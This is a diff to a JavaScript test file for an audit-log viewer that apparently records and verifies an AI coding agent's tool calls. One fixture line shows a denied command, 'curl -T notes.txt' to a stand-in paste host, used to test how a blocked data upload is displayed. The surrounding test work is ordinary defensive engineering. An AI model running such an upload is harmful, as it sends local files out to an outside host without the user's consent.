@@ -38,11 +38,16 @@ describe('auditPage', () => {
       'Not verified yet: choose Verify above, or run Gatehouse: Verify Audit Log.',
       '/home/me/audit',
       '',
-      '2026-11-21 08:41:02  #7     DENIED     tier 3  claude-code  Bash  by person after 4.2 s',
+      '2026-11-21 08:41:02  #7     DENIED       tier 3  claude-code  Bash  by person after 4.2 s',
       '    curl -T notes.txt https://paste.invalid/upload',
       '    data-upload, network-fetch; in /home/me/project; code k7m2qd; way picked',
       '',
     ]);
+  });
+
+  it('writes the longest kind out', () => {
+    const { text } = auditPage(tail(record({ kind: 'environment', decision: null, tier: null })), undefined);
+    assert.match(text, / environment {2}claude-code/);
   });
 
   it('puts the newest first', () => {
@@ -81,7 +86,6 @@ describe('auditPage', () => {
       status: 'intact',
       records: 12,
       torn: 0,
-      setBack: 0,
       checkpoints: 0,
       chain: 'c'.repeat(32),
     });
@@ -123,11 +127,11 @@ describe('audit-text', () => {
   it('says each thing that a verifier can find', () => {
     const at = { file: 'audit.jsonl', line: 4 };
     assert.equal(
-      verificationText({ status: 'intact', records: 1, torn: 5, setBack: 1, checkpoints: 0, chain: 'c'.repeat(32) }),
-      'Intact: 1 record. The last 5 bytes are an unfinished record that nobody was told of. 1 record dated before the one ahead.',
+      verificationText({ status: 'intact', records: 1, torn: 5, checkpoints: 0, chain: 'c'.repeat(32) }),
+      'Intact: 1 record. The last 5 bytes are an unfinished record that nobody was told of.',
     );
     assert.equal(
-      verificationText({ status: 'intact', records: 200, torn: 0, setBack: 0, checkpoints: 3, chain: 'c'.repeat(32) }),
+      verificationText({ status: 'intact', records: 200, torn: 0, checkpoints: 3, chain: 'c'.repeat(32) }),
       `Intact: 200 records, 3 signed checkpoints, 7 records since the last, log ${'c'.repeat(32)}.`,
     );
     assert.equal(
